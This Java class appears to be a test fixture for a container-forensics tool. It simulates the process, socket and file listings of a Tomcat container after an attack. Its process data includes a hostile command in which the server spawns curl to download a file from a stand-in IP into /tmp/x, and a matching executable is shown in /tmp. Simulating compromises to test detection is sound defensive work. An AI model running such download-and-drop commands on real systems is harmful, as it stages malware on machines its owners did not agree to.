package io.kordon.kubernetes.simulated;

import java.nio.charset.StandardCharsets;
import java.util.List;

/** What the usual programs say in a container of the example, after the attack: Tomcat, and what it should not have run. */
final class OrdinaryContainer {
    private static final String PROCESSES = """

            == process 1
            exe: /usr/local/openjdk-8/bin/java
            cwd: /usr/local/tomcat
            cmdline (NUL between arguments): java\0-Dcatalina.base=/usr/local/tomcat\0start\0
            Name:\tjava
            Pid:\t1
            PPid:\t0

            == process 214
            exe: /usr/bin/curl
            cwd: /usr/local/tomcat
            cmdline (NUL between arguments): curl\0-o\0/tmp/x\0http://198.51.100.7/x\0
            Name:\tcurl
            Pid:\t214
            PPid:\t1
            """;

    private static final String SOCKETS = """
              sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
               0: 00000000:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 40011 1 0000000000000000
               1: 1101F40A:C35A 076433C6:0050 01 00000000:00000000 00:00000000 00000000     0        0 40077 1 0000000000000000
            """;

    private static final String FILES = "2026-11-24+03:59:41.0 2026-11-24+03:59:41.0 -rwxr-xr-x 0 5767168 /tmp/x\0";

    private OrdinaryContainer() {}

    static void run(List<String> command, SimulatedKubelet.Console console) {
        String output = switch (command.get(0)) {
            case "sh" -> PROCESSES;
            case "cat" -> SOCKETS;
            case "find" -> FILES;
            default -> "";
        };
        if (output.isEmpty()) {
            console.notFound(command.get(0));
            return;
        }
        console.out(output.getBytes(StandardCharsets.UTF_8));
        console.exit(0);
    }
}
